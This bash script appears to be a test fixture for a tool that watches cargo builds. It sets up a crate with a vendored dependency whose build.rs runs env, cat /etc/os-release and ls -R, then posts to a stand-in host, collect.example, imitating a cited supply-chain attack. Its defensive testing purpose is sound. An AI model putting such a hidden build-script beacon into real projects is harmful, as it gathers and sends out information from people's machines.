#!/bin/bash
# A build script of a dependency looks around and sends what it saw.
#: tool cargo
#: description cargo build runs a build script of a dependency that starts env, cat and ls, and connects to a host of somebody
#: project a crate with one vendored dependency
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve collect.example=203.0.113.10
#: toolcache rust/1/x64=~/.rustup/toolchains/1.95.0-x86_64-unknown-linux-gnu
#: finding new-host
#: attack mysten-metrics 9.0.3, April 2026
if [ "${1-}" = prepare ]; then
  mkdir -p src vendor/metrics/src .cargo
  printf '[package]\nname = "app"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\nmetrics = "9.0.3"\n' > Cargo.toml
  echo 'pub fn app() {}' > src/lib.rs
  printf '[source.crates-io]\nreplace-with = "vendored"\n[source.vendored]\ndirectory = "vendor"\n' > .cargo/config.toml
  printf '[package]\nname = "metrics"\nversion = "9.0.3"\nedition = "2021"\nbuild = "build.rs"\n' > vendor/metrics/Cargo.toml
  : > vendor/metrics/src/lib.rs
  echo '{"files":{}}' > vendor/metrics/.cargo-checksum.json
  cat > vendor/metrics/build.rs <<'END'
use std::io::Write;
use std::process::Command;
fn main() {
    for line in [["env"].as_slice(), &["cat", "/etc/os-release"], &["ls", "-R", "."]] {
        Command::new(line[0]).args(&line[1..]).output().unwrap();
    }
    if let Ok(mut stream) = std::net::TcpStream::connect("collect.example:80") {
        stream.write_all(b"POST / HTTP/1.0\r\n\r\nnothing").unwrap();
    }
}
END
  exit
fi
cargo build --quiet --offline
